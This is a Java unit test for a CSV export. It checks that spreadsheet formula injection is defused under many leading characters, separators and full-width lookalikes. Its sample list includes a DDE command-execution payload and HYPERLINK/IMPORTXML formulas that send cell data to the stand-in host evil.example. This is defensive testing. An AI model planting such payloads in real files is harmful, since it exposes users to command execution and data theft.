package dev.chancery.bulk;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Whatever stands in a field, no program that reads our files finds a formula in it. */
@Tag("T-24")
class FormulasTest {
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(A1)",
          "=cmd|'/c calc'!A1",
          "=HYPERLINK(\"https://evil.example?\"&A1,\"more\")",
          "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
          "＝1+1",
          "＋1+1",
          "－1+1",
          "＠SUM(A1)");

  /** What may stand before one, so that it is not the first character. */
  private static final List<String> BEFORE =
      List.of(
          "",
          " ",
          "   ",
          "\t",
          "\r",
          "\n",
          "\r\n",
          "\u00a0",
          "\u2003",
          "\u3000",
          "\ufeff",
          "\u200b",
          "\u202e",
          "\0",
          "\u000b",
          "\"",
          ",",
          ";",
          "\";",
          "x;",
          "x\t",
          "x\n",
          "x\r\n",
          "x\";\"",
          "x, ; ",
          "x;\"",
          "x;\"\"",
          "x\n\u00a0");

  /** Set to the comma, to the semicolon as half of Europe is, and to the tabulator. */
  private static final String SEPARATORS = ",;\t";

  private static Stream<String> values() {
    return FORMULAS.stream().flatMap(formula -> BEFORE.stream().map(before -> before + formula));
  }

  @Test
  void no_cell_of_any_reader_begins_with_a_formula() {
    assertThat(values()).hasSizeGreaterThan(200);
    assertThat(values())
        .allSatisfy(
            value ->
                assertThat(cells("1," + Report.field(value) + ",x\r\n"))
                    .noneMatch(FormulasTest::isFormula));
  }

  @Test
  void quotes_alone_are_not_enough() {
    List<String> values =
        values()
            .filter(
                value ->
                    cells("1,\"" + value.replace("\"", "\"\"") + "\",x\r\n").stream()
                        .anyMatch(FormulasTest::isFormula))
            .toList();

    assertThat(values).contains("=1+1", "x;=1+1", "x\n=1+1", "x\t＝1+1");
  }

  @Test
  void what_is_no_formula_stays_as_it_is() {
    for (String value :
        List.of("Ada", "a=b", "1-2", "ada+1@example.com", "x; y", "two\nlines", "a\tb", "'=1")) {
      assertThat(Formulas.defused(value)).isEqualTo(value);
    }
  }

  /** All that any of them finds. */
  private static List<String> cells(String file) {
    return SEPARATORS
        .chars()
        .boxed()
        .flatMap(separator -> cells(file, separator).stream())
        .toList();
  }

  /**
   * As lenient as a spreadsheet: a quote counts where it is first, and text may follow the next.
   */
  private static List<String> cells(String file, int separator) {
    List<String> cells = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean first = true;
    boolean quoted = false;
    for (int c : file.chars().toArray()) {
      boolean separates = !quoted && (c == separator || c == '\r' || c == '\n');
      if (separates) {
        cells.add(cell.toString());
        cell.setLength(0);
      } else if (c == '"' && (first || quoted)) {
        quoted = !quoted;
      } else {
        cell.appendCodePoint(c);
      }
      first = separates;
    }
    cells.add(cell.toString());
    return cells;
  }

  private static boolean isFormula(String cell) {
    return cell.replaceAll("^[\\s\\p{Z}\\p{C}]+", "").matches("(?s)[=+\\-@＝＋－＠].*");
  }
}
